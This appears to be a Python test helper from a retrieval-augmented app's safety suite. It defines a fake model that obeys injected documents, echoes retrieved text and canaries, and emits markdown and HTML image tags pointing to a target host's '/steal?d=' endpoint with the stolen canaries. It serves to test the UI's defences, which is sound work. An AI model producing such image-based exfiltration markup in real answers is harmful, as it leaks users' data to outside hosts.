"""A model that does whatever documents tell it: it repeats what it read, canaries and markup, and adds attacks of its
own.

    python -m tests.safety.obedient HOME PORT TARGET     serves the app; while HOME/obey is there, this model answers
"""

import sys
import time
from collections.abc import Iterator
from pathlib import Path

from models.types import ModelInfo
from rag.prompt import Prompt
from settings import Settings
from tests.safety.attacks import canaries, own_attacks

SWITCH = "obey"
PIECE = 40  # characters that come at once


class ObedientGenerator:
    """Implements rag.generate.Generator. `pause` are the seconds between pieces, in which a page may draw."""

    def __init__(self, target: str, pause: float = 0.0) -> None:
        self.info = ModelInfo("obedient")
        self.prompts: list[Prompt] = []
        self._target = target
        self._pause = pause

    def count_tokens(self, text: str) -> int:
        return len(text) // 4

    def generate(self, prompt: Prompt) -> Iterator[str]:
        """A thought and an answer, both full of attacks; without passages (a question to be rewritten), the same."""
        self.prompts.append(prompt)
        said = self.says(prompt)
        for start in range(0, len(said), PIECE):
            yield said[start : start + PIECE]
            if self._pause:
                time.sleep(self._pause)

    def says(self, prompt: Prompt) -> str:
        read = "\n\n".join(hit.passage.text for hit in prompt.hits)
        stolen = "+".join(sorted(canaries(read))) or "none"
        own = "\n".join(f"{attack.text} [{1 + n % 9}]" for n, attack in enumerate(own_attacks(self._target)))
        return (
            f"<think>![t]({self._target}/thought.png) <img src={self._target}/thought></think>"
            f"![s]({self._target}/steal?d={stolen}) <img src='{self._target}/steal?d={stolen}'> [1]\n\n"
            f"{read} [1]\n\n{own}"
        )

    def close(self) -> None:
        pass


def main() -> None:
    from engine import LocalEngine
    from ui import launch

    home, port, target = Path(sys.argv[1]), int(sys.argv[2]), sys.argv[3]
    obedient, usual = ObedientGenerator(target, pause=0.005), LocalEngine._written_by

    def written_by(engine, name, settings, extractive, events, waiting):  # type: ignore[no-untyped-def]
        if (home / SWITCH).exists():
            return events(obedient)
        return usual(engine, name, settings, extractive, events, waiting)

    LocalEngine._written_by = written_by  # type: ignore[method-assign]
    launch.run_app(Settings.load(home), port)


if __name__ == "__main__":
    main()
